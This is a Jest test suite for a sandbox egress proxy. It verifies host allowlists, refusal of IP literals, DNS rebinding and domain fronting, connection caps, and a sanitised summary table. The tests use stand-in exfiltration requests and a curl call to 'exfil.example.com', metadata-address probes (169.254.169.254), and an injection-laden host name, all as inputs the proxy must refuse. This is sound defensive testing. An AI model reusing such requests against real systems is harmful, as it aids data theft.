// The sandbox's egress proxy on loopback: CONNECT tunnels and absolute-form HTTP to allowlisted
// names only, to public addresses only (a name rebinding to 127.0.0.1 is refused), a log of every
// decision, and caps. No Internet: the test seam maps the public address a fake resolver returns
// onto a loopback server; production's address check is the same code either way.
import { afterEach, describe, expect, it } from '@jest/globals';
import { readFile, rm } from 'node:fs/promises';
import http from 'node:http';
import https from 'node:https';
import { join } from 'node:path';
import tls from 'node:tls';
import net, { type AddressInfo, type Socket } from 'node:net';
import { once } from 'node:events';
import { parseEgressAllow, readTunnelOpening } from '../../../src/core/sandbox/egress-policy.js';
import { runCommand } from '../../../src/engines/process.js';
import {
  egressProxyEnv,
  startEgressProxy,
  type EgressProxy,
  type EgressProxyOptions,
} from '../../../src/engines/sandbox/egress-proxy.js';
import { egressSummaryMarkdown } from '../../../src/engines/sandbox/egress-log.js';
import { tempDir } from '../../support/temp.js';

const PUBLIC = '104.16.0.35'; // what the fake resolver says registry.npmjs.org is

const cleanup: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const f of cleanup.splice(0).reverse()) await f();
});

interface Target {
  port: number;
  connections: number;
  /** Bytes the server received. */
  received: number;
  readonly requests: Array<{ method: string; url: string; headers: http.IncomingHttpHeaders }>;
}

const newTarget = (): Target => ({ port: 0, connections: 0, received: 0, requests: [] });

/** Listens on loopback port 0, and stops (with `stop` first) after the test. */
async function listen(server: net.Server, t: Target, stop: () => void): Promise<Target> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.port = (server.address() as AddressInfo).port;
  cleanup.push(async () => {
    stop();
    await new Promise((r) => server.close(r));
  });
  return t;
}

/** A loopback TCP server that greets, then echoes. Counts every connection it gets. */
async function echoServer(): Promise<Target> {
  const t = newTarget();
  const sockets = new Set<Socket>();
  const server = net.createServer((s) => {
    t.connections += 1;
    sockets.add(s);
    s.on('error', () => undefined);
    s.on('data', (chunk: Buffer) => (t.received += chunk.length));
    s.write('hello\n');
    s.pipe(s);
  });
  return listen(server, t, () => sockets.forEach((s) => s.destroy()));
}

/** A loopback HTTP server that answers with the path it was asked for. */
async function httpServer(): Promise<Target> {
  const t = newTarget();
  const server = http.createServer((req, res) => {
    t.requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers });
    req.resume();
    req.on('end', () => res.end(`you asked for ${req.url}`));
  });
  server.on('connection', () => (t.connections += 1));
  return listen(server, t, () => server.closeAllConnections());
}

interface Seam {
  resolved: string[];
  connected: string[];
}

/** A proxy whose resolver and connector are the test seam: PUBLIC lands on `target`. */
async function proxyTo(
  target: Target,
  allow: string[],
  extra: Partial<EgressProxyOptions> = {},
): Promise<{ proxy: EgressProxy; seam: Seam }> {
  const seam: Seam = { resolved: [], connected: [] };
  const proxy = await startEgressProxy({
    policy: { rules: parseEgressAllow(allow, 'allow') },
    resolve: async (host) => {
      seam.resolved.push(host);
      return [PUBLIC];
    },
    connect: (address, port) => {
      seam.connected.push(`${address}:${port}`);
      return net.connect({ host: '127.0.0.1', port: target.port });
    },
    ...extra,
  });
  cleanup.push(() => proxy.close());
  return { proxy, seam };
}

interface Answer {
  readonly socket: Socket;
  readonly status: number;
  readonly head: string;
  /** Bytes after the header (the refusal body, or the first tunnelled bytes). */
  readonly rest: string;
}

/** Sends raw bytes to the proxy and reads its answer's header (and, when it closes, the rest). */
async function raw(port: number, request: string): Promise<Answer> {
  const socket = net.connect({ host: '127.0.0.1', port });
  cleanup.push(async () => void socket.destroy());
  await once(socket, 'connect');
  socket.write(request);
  let got = '';
  await new Promise<void>((ok) => {
    const onData = (chunk: Buffer) => {
      got += chunk.toString('latin1');
      const end = got.indexOf('\r\n\r\n');
      if (end >= 0 && !got.startsWith('HTTP/1.1 200')) return; // wait for the close
      if (end >= 0) {
        socket.off('data', onData);
        socket.off('end', ok);
        ok();
      }
    };
    socket.on('data', onData);
    socket.once('end', ok);
  });
  const end = got.indexOf('\r\n\r\n');
  return {
    socket,
    status: Number(/^HTTP\/1\.1 (\d{3})/.exec(got)?.[1] ?? 0),
    head: got.slice(0, end),
    rest: got.slice(end + 4),
  };
}

/** Reads from a tunnel until `want` bytes of text have arrived. */
async function readText(socket: Socket, already: string, length: number): Promise<string> {
  let got = already;
  while (got.length < length) {
    const [chunk] = (await once(socket, 'data')) as [Buffer];
    got += chunk.toString('latin1');
  }
  return got;
}

/** The ClientHello a real TLS client (Node's) sends for `servername`, captured on loopback. */
async function realHello(servername: string): Promise<Buffer> {
  const server = net.createServer();
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const client = tls.connect({ host: '127.0.0.1', port, servername });
  client.on('error', () => undefined);
  const [conn] = (await once(server, 'connection')) as [Socket];
  let got = Buffer.alloc(0);
  while (readTunnelOpening(got).kind === 'incomplete') {
    const [chunk] = (await once(conn, 'data')) as [Buffer];
    got = Buffer.concat([got, chunk]);
  }
  client.destroy();
  conn.destroy();
  await new Promise((r) => server.close(r));
  return got;
}

const connectLine = (target: string) => `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`;

describe('egress proxy: CONNECT', () => {
  it('tunnels bytes both ways to an allowed host, at the address the proxy resolved', async () => {
    const target = await echoServer();
    const { proxy, seam } = await proxyTo(target, ['registry.npmjs.org']);
    const a = await raw(proxy.port, connectLine('registry.npmjs.org:443'));
    expect(a.status).toBe(200);
    const hello = await realHello('registry.npmjs.org');
    a.socket.write(hello);
    const echoed = await readText(a.socket, a.rest, 6 + hello.length);
    expect(echoed).toBe(`hello\n${hello.toString('latin1')}`);
    expect(target.received).toBe(hello.length);
    expect(seam).toEqual({ resolved: ['registry.npmjs.org'], connected: [`${PUBLIC}:443`] });
    expect(target.connections).toBe(1);
    expect(proxy.stats()).toEqual({
      allowed: 1,
      refused: 0,
      bytesOut: hello.length,
      bytesIn: 6 + hello.length,
      unlistedDecisions: 0,
      entries: [
        {
          host: 'registry.npmjs.org',
          port: 443,
          allowed: true,
          requests: 1,
          bytesOut: hello.length,
          bytesIn: 6 + hello.length,
        },
      ],
    });
  });

  it('closes a tunnel whose TLS asks for another site (CDN fronting) or that is not TLS, sending nothing on', async () => {
    const target = await echoServer();
    const { proxy } = await proxyTo(target, ['registry.npmjs.org']);
    for (const opening of [
      await realHello('attacker.example'),
      Buffer.from('GET / HTTP/1.1\r\n\r\n'),
    ]) {
      const a = await raw(proxy.port, connectLine('registry.npmjs.org:443'));
      expect(a.status).toBe(200);
      const closed = once(a.socket, 'close');
      a.socket.write(opening);
      await closed;
    }
    expect(target.received).toBe(0);
    expect(proxy.stats()).toMatchObject({
      allowed: 0,
      refused: 2,
      bytesOut: 0,
      entries: [
        {
          host: 'registry.npmjs.org',
          allowed: false,
          requests: 1,
          reason: 'its TLS hello asks for "attacker.example", not the host it was opened for',
        },
        {
          host: 'registry.npmjs.org',
          allowed: false,
          requests: 1,
          reason: 'the tunnel does not start with a TLS handshake; it carries TLS only',
        },
      ],
    });
  });

  it('refuses a host not on the list with 403 naming it and the fix, and connects nowhere', async () => {
    const target = await echoServer();
    const { proxy, seam } = await proxyTo(target, ['registry.npmjs.org']);
    const a = await raw(proxy.port, connectLine('exfil.example.com:443'));
    expect(a.status).toBe(403);
    expect(a.rest).toContain('exfil.example.com');
    expect(a.rest).toContain(
      'add "exfil.example.com" to sandbox.network.allow in .github/lailatov.yml',
    );
    expect(seam).toEqual({ resolved: [], connected: [] });
    expect(target.connections).toBe(0);
    expect(proxy.stats()).toMatchObject({
      allowed: 0,
      refused: 1,
      entries: [{ host: 'exfil.example.com', port: 443, allowed: false, requests: 1 }],
    });
  });

  it('refuses an allowed host on a port the list does not name', async () => {
    const target = await echoServer();
    const { proxy } = await proxyTo(target, ['registry.npmjs.org']);
    const a = await raw(proxy.port, connectLine('registry.npmjs.org:22'));
    expect(a.status).toBe(403);
    expect(a.rest).toContain('"registry.npmjs.org:22"');
    expect(target.connections).toBe(0);
  });

  it('refuses IP literals, whatever they point at', async () => {
    const target = await echoServer();
    const { proxy, seam } = await proxyTo(target, ['registry.npmjs.org']);
    for (const literal of [
      `127.0.0.1:${target.port}`,
      `[::1]:${target.port}`,
      '169.254.169.254:80',
      `${PUBLIC}:443`,
    ]) {
      const a = await raw(proxy.port, connectLine(literal));
      expect(a.status).toBe(403);
      expect(a.rest).toContain('IP address');
    }
    expect(seam.connected).toEqual([]);
    expect(target.connections).toBe(0);
  });

  it('production mode: an allowed name that resolves to loopback or metadata is refused', async () => {
    const target = await echoServer();
    for (const rebound of [
      ['127.0.0.1'],
      ['::ffff:127.0.0.1'],
      ['169.254.169.254'],
      ['10.0.0.1'],
    ]) {
      // No connect seam: the real connector, which would reach the target on 127.0.0.1.
      const proxy = await startEgressProxy({
        policy: { rules: parseEgressAllow([`registry.npmjs.org:${target.port}`], 'allow') },
        resolve: async () => rebound,
      });
      cleanup.push(() => proxy.close());
      const a = await raw(proxy.port, connectLine(`registry.npmjs.org:${target.port}`));
      expect(a.status).toBe(403);
      expect(a.rest).toContain(`resolves to ${rebound[0]}`);
      expect(a.rest).toContain('never connects to loopback, private, link-local');
    }
    expect(target.connections).toBe(0);
  });

  it('connects only to the public addresses of a mixed answer', async () => {
    const target = await echoServer();
    const { proxy, seam } = await proxyTo(target, ['registry.npmjs.org'], {
      resolve: async () => ['127.0.0.1', PUBLIC],
    });
    const a = await raw(proxy.port, connectLine('registry.npmjs.org:443'));
    expect(a.status).toBe(200);
    expect(seam.connected).toEqual([`${PUBLIC}:443`]);
  });

  it('answers 400 to a CONNECT target that is not host:port', async () => {
    const target = await echoServer();
    const { proxy } = await proxyTo(target, ['registry.npmjs.org']);
    expect((await raw(proxy.port, connectLine('registry.npmjs.org'))).status).toBe(400);
    expect(target.connections).toBe(0);
  });

  it('holds a connection slot across the DNS wait, and frees it after a refusal', async () => {
    const target = await echoServer();
    const answers: Array<(a: string[]) => void> = [];
    const { proxy } = await proxyTo(target, ['registry.npmjs.org', 'pypi.org'], {
      maxConnections: 1,
      resolve: (host) =>
        host === 'pypi.org' ? Promise.resolve(['127.0.0.1']) : new Promise((r) => answers.push(r)),
    });
    const waiting = raw(proxy.port, connectLine('registry.npmjs.org:443'));
    while (answers.length === 0) await new Promise((r) => setImmediate(r));
    expect((await raw(proxy.port, connectLine('pypi.org:443'))).status).toBe(503);
    answers[0]!(['127.0.0.1']); // rebinding: refused, and the slot comes back
    expect((await waiting).status).toBe(403);
    expect((await raw(proxy.port, connectLine('pypi.org:443'))).status).toBe(403);
    expect(proxy.stats().entries.map((e) => `${e.host} ${e.reason?.slice(0, 20)}`)).toEqual([
      'pypi.org more than 1 connecti',
      'registry.npmjs.org resolves to 127.0.0.',
      'pypi.org resolves to 127.0.0.',
    ]);
    expect(target.connections).toBe(0);
  });

  it('caps connections open at once (503), closes idle tunnels, and close() ends every tunnel', async () => {
    const target = await echoServer();
    const { proxy } = await proxyTo(target, ['registry.npmjs.org'], { maxConnections: 1 });
    const first = await raw(proxy.port, connectLine('registry.npmjs.org:443'));
    expect(first.status).toBe(200);
    const second = await raw(proxy.port, connectLine('registry.npmjs.org:443'));
    expect(second.status).toBe(503);
    expect(target.connections).toBe(1);
    const closed = once(first.socket, 'close');
    await proxy.close();
    await closed;

    const idle = await proxyTo(target, ['registry.npmjs.org'], { idleTimeoutMs: 20 });
    const quiet = await raw(idle.proxy.port, connectLine('registry.npmjs.org:443'));
    expect(quiet.status).toBe(200);
    await once(quiet.socket, 'close'); // the proxy hung up, nobody else did
  });
});

/** An absolute-form request to the proxy, as an HTTP_PROXY client sends it. */
async function viaProxy(
  proxyPort: number,
  url: string,
  method = 'GET',
): Promise<{ status: number; body: string }> {
  const target = new URL(url);
  const req = http.request({
    host: '127.0.0.1',
    port: proxyPort,
    method,
    path: url,
    headers: { host: target.host, 'proxy-authorization': 'Basic c2VjcmV0', connection: 'close' },
  });
  req.end();
  const [res] = (await once(req, 'response')) as [http.IncomingMessage];
  let body = '';
  for await (const chunk of res) body += String(chunk);
  return { status: res.statusCode ?? 0, body };
}

describe('egress proxy: plain HTTP', () => {
  it('forwards an absolute-form GET to an allowed host, without proxy headers', async () => {
    const target = await httpServer();
    const { proxy, seam } = await proxyTo(target, ['registry.npmjs.org']);
    const r = await viaProxy(proxy.port, 'http://registry.npmjs.org/lodash?x=1');
    expect(r).toEqual({ status: 200, body: 'you asked for /lodash?x=1' });
    expect(seam.connected).toEqual([`${PUBLIC}:80`]);
    expect(target.requests).toHaveLength(1);
    expect(target.requests[0]).toMatchObject({ method: 'GET', url: '/lodash?x=1' });
    expect(target.requests[0]!.headers.host).toBe('registry.npmjs.org');
    expect(target.requests[0]!.headers['proxy-authorization']).toBeUndefined();
    expect(proxy.stats().entries).toEqual([
      expect.objectContaining({ host: 'registry.npmjs.org', port: 80, allowed: true, bytesIn: 25 }),
    ]);
  });

  it('refuses a plain request to a host not on the list (403) or to an IP literal', async () => {
    const target = await httpServer();
    const { proxy } = await proxyTo(target, ['registry.npmjs.org']);
    const r = await viaProxy(proxy.port, 'http://exfil.example.com/?secret=1');
    expect(r.status).toBe(403);
    expect(r.body).toContain('exfil.example.com');
    expect(r.body).toContain('sandbox.network.allow');
    expect((await viaProxy(proxy.port, `http://127.0.0.1:${target.port}/`)).status).toBe(403);
    expect(target.connections).toBe(0);
  });

  it('answers 400 to origin-form, https:// absolute-form and garbage', async () => {
    const target = await httpServer();
    const { proxy } = await proxyTo(target, ['registry.npmjs.org']);
    const origin = await raw(
      proxy.port,
      'GET /lodash HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n',
    );
    expect(origin.status).toBe(400);
    expect(origin.rest).toContain('CONNECT host:port');
    const https = await raw(
      proxy.port,
      'GET https://registry.npmjs.org/ HTTP/1.1\r\nHost: x\r\n\r\n',
    );
    expect(https.status).toBe(400);
    expect((await raw(proxy.port, 'NOT HTTP AT ALL\r\n\r\n')).status).toBe(400);
    expect(target.connections).toBe(0);
  });
});

describe('egress proxy: a real client (curl)', () => {
  // What the lead's sandbox hands the agent's tools.
  const env = (proxyUrl: string) => ({
    PATH: process.env.PATH ?? '/usr/bin:/bin',
    ...egressProxyEnv(proxyUrl),
  });

  it('curl through HTTPS_PROXY to a refused host shows the 403 and our reason', async () => {
    const target = await echoServer();
    const { proxy } = await proxyTo(target, ['registry.npmjs.org']);
    const r = await runCommand('curl', ['-sS', '-v', 'https://exfil.example.com/'], {
      cwd: process.cwd(),
      env: env(proxy.url),
      timeoutMs: 30_000,
    });
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toMatch(/403 Forbidden by the LailaTov egress allowlist/);
    expect(target.connections).toBe(0);
  });

  it('curl reaches an allowed host over HTTPS through a tunnel, and over plain HTTP', async () => {
    // A certificate for registry.npmjs.org that curl trusts through --cacert.
    const dir = await tempDir('egress-tls-');
    cleanup.push(() => rm(dir, { recursive: true, force: true }));
    const made = await runCommand(
      'openssl',
      [
        'req',
        '-x509',
        '-newkey',
        'ec',
        '-pkeyopt',
        'ec_paramgen_curve:prime256v1',
        '-nodes',
        '-keyout',
        'key.pem',
        '-out',
        'cert.pem',
        '-days',
        '1',
        '-subj',
        '/CN=registry.npmjs.org',
        '-addext',
        'subjectAltName=DNS:registry.npmjs.org',
      ],
      { cwd: dir, env: { PATH: process.env.PATH ?? '/usr/bin:/bin' }, timeoutMs: 30_000 },
    );
    expect(made.exitCode).toBe(0);
    const httpsServer = https.createServer(
      { key: await readFile(join(dir, 'key.pem')), cert: await readFile(join(dir, 'cert.pem')) },
      (req, res) => res.end(`you asked for ${req.url} over TLS`),
    );
    const httpsTarget = await listen(httpsServer, newTarget(), () =>
      httpsServer.closeAllConnections(),
    );
    const { proxy } = await proxyTo(httpsTarget, ['registry.npmjs.org']);
    const secure = await runCommand(
      'curl',
      ['-sS', '--cacert', join(dir, 'cert.pem'), 'https://registry.npmjs.org/left-pad'],
      { cwd: dir, env: env(proxy.url), timeoutMs: 30_000 },
    );
    expect(secure.stderr).toBe('');
    expect(secure.stdout).toBe('you asked for /left-pad over TLS');

    const target = await httpServer();
    const plainProxy = await proxyTo(target, ['registry.npmjs.org']);
    const plain = await runCommand('curl', ['-sS', 'http://registry.npmjs.org/plain'], {
      cwd: process.cwd(),
      env: env(plainProxy.proxy.url),
      timeoutMs: 30_000,
    });
    expect(plain.stdout).toBe('you asked for /plain');
    expect(proxy.stats()).toMatchObject({ allowed: 1, refused: 0 });
    expect(plainProxy.proxy.stats()).toMatchObject({ allowed: 1, refused: 0 });
  });

  it('with that environment, curl reaches the loopback model proxy directly, not through us', async () => {
    const modelProxy = await httpServer();
    const { proxy } = await proxyTo(await echoServer(), ['registry.npmjs.org']);
    const r = await runCommand('curl', ['-sS', `http://127.0.0.1:${modelProxy.port}/v1/messages`], {
      cwd: process.cwd(),
      env: env(proxy.url),
      timeoutMs: 30_000,
    });
    expect(r.stdout).toBe('you asked for /v1/messages');
    expect(proxy.stats()).toMatchObject({ allowed: 0, refused: 0 });
  });
});

describe('egress proxy: job summary', () => {
  it('lists refusals first, then allowed hosts, with counts and bytes', async () => {
    const target = await echoServer();
    const { proxy } = await proxyTo(target, ['registry.npmjs.org']);
    const ok = await raw(proxy.port, connectLine('registry.npmjs.org:443'));
    const hello = await realHello('registry.npmjs.org');
    ok.socket.write(hello);
    await readText(ok.socket, ok.rest, 6 + hello.length);
    const n = hello.length;
    await raw(proxy.port, connectLine('exfil.example.com:443'));
    const md = egressSummaryMarkdown(proxy.stats());
    expect(md).toContain(
      `Network egress: 1 allowed, 1 refused, ${n} bytes out, ${n + 6} bytes in.`,
    );
    const rows = md.split('\n').filter((l) => l.startsWith('| `'));
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatch(
      /^\| `exfil\.example\.com` \| 443 \| refused: exfil\.example\.com is not/,
    );
    expect(rows[1]).toBe(`| \`registry.npmjs.org\` | 443 | allowed | 1 | ${n} | ${n + 6} |`);
  });

  it('keeps markup, pipes and mentions a hostile host name carries out of the table', () => {
    const md = egressSummaryMarkdown({
      allowed: 0,
      refused: 1,
      bytesOut: 0,
      bytesIn: 0,
      unlistedDecisions: 3,
      entries: [
        {
          host: 'a|b<img src=x>@team`\n| x',
          port: 0,
          allowed: false,
          reason: 'malformed <b>',
          requests: 1,
          bytesOut: 0,
          bytesIn: 0,
        },
      ],
    });
    expect(md).toContain('| `a?b?img src?x??team??? x` | 0 | refused: malformed ?b? | 1 | 0 | 0 |');
    expect(md).toContain('3 more decisions');
  });
});
